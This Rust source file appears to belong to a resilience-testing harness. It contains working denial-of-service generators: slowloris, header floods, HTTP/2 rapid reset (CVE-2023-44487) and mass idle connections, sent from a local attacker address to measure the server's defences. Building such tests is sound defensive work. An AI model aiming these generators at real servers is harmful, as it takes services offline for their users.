//! Who attacks: each kind as a number of tasks that go on until they are told to stop. A refused or closed connection is opened
//! again, as an attacker would. It must never spin: every loop waits for the peer or for a clock.

use crate::client::Target;
use anyhow::{Result, ensure};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

/// A way to attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(super) enum Kind {
    /// request heads that arrive a byte a second
    Slowloris,
    /// requests with more header fields than allowed, as fast as they are refused
    Headers,
    /// h2 streams that are opened and reset at once (CVE-2023-44487)
    RapidReset,
    /// connections that made one request and rest
    Idle,
}

impl Kind {
    /// Those that were asked for, or every one.
    pub(super) fn all(only: &[Kind]) -> Vec<Kind> {
        let all = [Kind::Slowloris, Kind::Headers, Kind::RapidReset, Kind::Idle];
        all.into_iter()
            .filter(|kind| only.is_empty() || only.contains(kind))
            .collect()
    }

    pub(super) fn name(self) -> &'static str {
        match self {
            Kind::Slowloris => "slowloris",
            Kind::Headers => "header flood",
            Kind::RapidReset => "rapid reset",
            Kind::Idle => "idle connections",
        }
    }
}

/// Attackers at work; dropped, they stop.
pub(super) struct Attackers {
    tasks: JoinSet<()>,
    acts: Arc<Acts>,
}

/// What they did.
#[derive(Default)]
struct Acts {
    connections: AtomicU64,
    open: AtomicU64,
    requests: AtomicU64,
}

impl Attackers {
    /// Sets them on; returns when the attack stands.
    pub(super) async fn start(kind: Kind, target: &Target, idle: u64) -> Result<Self> {
        let acts = Arc::new(Acts::default());
        let mut tasks = JoinSet::new();
        match kind {
            Kind::Idle => {
                let handshakes = Arc::new(Semaphore::new(HANDSHAKES_AT_ONCE));
                for _ in 0..idle {
                    tasks.spawn(rest(target.clone(), acts.clone(), handshakes.clone()));
                }
                for _ in 0..120 {
                    if acts.open.load(Ordering::Relaxed) == idle {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(500)).await;
                }
                let open = acts.open.load(Ordering::Relaxed);
                ensure!(
                    open > idle * 99 / 100,
                    "only {open} of {idle} connections are open: see `ulimit -n`"
                );
            }
            Kind::Slowloris => drop(
                (0..SLOW)
                    .map(|_| tasks.spawn(slow(target.clone(), acts.clone())))
                    .collect::<Vec<_>>(),
            ),
            Kind::Headers => drop(
                (0..FLOODS)
                    .map(|_| tasks.spawn(flood(target.clone(), acts.clone())))
                    .collect::<Vec<_>>(),
            ),
            Kind::RapidReset => drop(
                (0..RESETTERS)
                    .map(|_| tasks.spawn(reset(target.clone(), acts.clone())))
                    .collect::<Vec<_>>(),
            ),
        }
        if kind != Kind::Idle {
            tokio::time::sleep(Duration::from_secs(3)).await;
        }
        Ok(Self { tasks, acts })
    }

    /// Calls them off; what they did, and how many connections were open.
    pub(super) async fn stop(mut self) -> (String, u64) {
        let count = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        let open = count(&self.acts.open);
        let said = format!(
            "{} connections made, {open} open at the end, {} requests",
            count(&self.acts.connections),
            count(&self.acts.requests)
        );
        self.tasks.shutdown().await;
        (said, open)
    }
}

/// A byte of a head each second, for as long as the peer listens.
async fn slow(target: Target, acts: Arc<Acts>) {
    loop {
        if let Ok(mut stream) = target.bare(ATTACKER, b"http/1.1").await {
            acts.connections.fetch_add(1, Ordering::Relaxed);
            acts.open.fetch_add(1, Ordering::Relaxed);
            for byte in b"GET /v1/balance HTTP/1.1\r\nhost: a\r\nx-slow: "
                .iter()
                .chain(std::iter::repeat_n(&b'a', 600))
            {
                if stream.write_all(&[*byte]).await.is_err() || stream.flush().await.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            acts.open.fetch_sub(1, Ordering::Relaxed);
        }
        tokio::time::sleep(BREATH).await;
    }
}

/// Heads of two hundred fields, one after the other.
async fn flood(target: Target, acts: Arc<Acts>) {
    let fields: String = (0..200)
        .map(|n| format!("x-flood-{n}: {}\r\n", "a".repeat(60)))
        .collect();
    let request = format!("GET /v1/balance HTTP/1.1\r\nhost: a\r\n{fields}\r\n");
    let mut answer = vec![0; 4096];
    loop {
        if let Ok(mut stream) = target.bare(ATTACKER, b"http/1.1").await {
            acts.connections.fetch_add(1, Ordering::Relaxed);
            while stream.write_all(request.as_bytes()).await.is_ok() && stream.flush().await.is_ok() {
                match stream.read(&mut answer).await {
                    Ok(1..) => acts.requests.fetch_add(1, Ordering::Relaxed),
                    _ => break,
                };
                tokio::time::sleep(PACE).await;
            }
        }
        tokio::time::sleep(BREATH).await;
    }
}

/// Streams opened and reset without waiting for anything, until the peer hangs up.
async fn reset(target: Target, acts: Arc<Acts>) {
    loop {
        if let Ok(stream) = target.bare(ATTACKER, b"h2").await
            && let Ok((mut sender, connection)) = h2::client::handshake(stream).await
        {
            acts.connections.fetch_add(1, Ordering::Relaxed);
            let driver = tokio::spawn(connection);
            while let Ok(ready) = sender.clone().ready().await {
                sender = ready;
                let request = http::Request::get("https://a/v1/balance").body(()).unwrap_or_default();
                let Ok((answer, mut body)) = sender.send_request(request, true) else {
                    break;
                };
                acts.requests.fetch_add(1, Ordering::Relaxed);
                body.send_reset(h2::Reason::CANCEL);
                drop(answer);
                tokio::task::yield_now().await;
            }
            driver.abort();
        }
        tokio::time::sleep(BREATH).await;
    }
}

/// One request, and then nothing.
async fn rest(target: Target, acts: Arc<Acts>, handshakes: Arc<Semaphore>) {
    let mut answer = vec![0; 1024];
    loop {
        let Ok(permit) = handshakes.acquire().await else { return };
        let opened = async {
            let mut stream = target.bare(ATTACKER, b"http/1.1").await?;
            stream.write_all(b"GET / HTTP/1.1\r\nhost: a\r\n\r\n").await?;
            ensure!(stream.read(&mut answer).await? > 0, "closed");
            anyhow::Ok(stream)
        };
        let opened = opened.await;
        drop(permit);
        if let Ok(mut stream) = opened {
            acts.connections.fetch_add(1, Ordering::Relaxed);
            acts.open.fetch_add(1, Ordering::Relaxed);
            while matches!(stream.read(&mut answer).await, Ok(1..)) {} // until the peer has had enough
            acts.open.fetch_sub(1, Ordering::Relaxed);
        }
        tokio::time::sleep(BREATH).await;
    }
}

/// Not the address that the honest load comes from: limits by address shall hit the attacker alone.
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 66));
const SLOW: usize = 2_000;
const FLOODS: usize = 16;
const RESETTERS: usize = 8;
const HANDSHAKES_AT_ONCE: usize = 64;
/// What an attacker on one machine gets onto the wire, so that it is not our own processor that is measured.
const PACE: Duration = Duration::from_millis(5);
const BREATH: Duration = Duration::from_millis(200);
